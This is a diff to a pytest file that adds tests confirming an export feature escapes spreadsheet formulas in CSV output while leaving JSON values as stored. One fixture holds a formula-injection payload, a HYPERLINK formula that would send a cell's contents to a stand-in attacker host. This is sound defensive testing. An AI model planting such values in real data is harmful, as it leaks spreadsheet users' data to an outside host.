@@ -9,7 +9,8 @@ import json
 import pytest
 
 from observe.accounts.models import Role
-from observe.reports.export import COLUMNS
+from observe.extensions import db
+from observe.reports.export import COLUMNS, inert
 from tests.calibration.test_sessions import SCORES
 
 
@@ -114,3 +115,28 @@ def test_the_command_line_exports_everything(app, district, tmp_path):
         args=["export", "observations", "--school", "NOPE", "-o", str(out)]
     )
     assert bad.exit_code == 1 and "not one of your schools: NOPE" in bad.output
+
+
+def test_spreadsheet_formulas_are_exported_as_text(client, sign_in, admin, push_as, team):
+    # Issue 11: a roster value reached a data team's spreadsheet as a live formula.
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    team.school.name = formula
+    team.classroom.name = "@SUM(A1:A9)"
+    team.classroom.subject = "-2+3"
+    db.session.commit()
+    push_as(team.observers[0], {"ratings": [{"criterion": "ct-explain-reasoning", "level": 3}]})
+    sign_in(admin)
+    rows = read_csv(client.get("/reports/export/download?format=csv").get_data(as_text=True))
+    assert rows[0]["school"] == "'" + formula
+    assert rows[0]["classroom"] == "'@SUM(A1:A9)"
+    assert rows[0]["subject"] == "'-2+3"
+    assert rows[0]["level"] == "3"  # numbers stay numbers
+    # JSON carries the values as stored: nothing there evaluates them.
+    records = json.loads(client.get("/reports/export/download?format=json").get_data(as_text=True))
+    assert records[0]["school"] == formula
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    assert inert(start + "1") == "'" + start + "1"
+    assert inert("plain") == "plain" and inert(-3) == -3
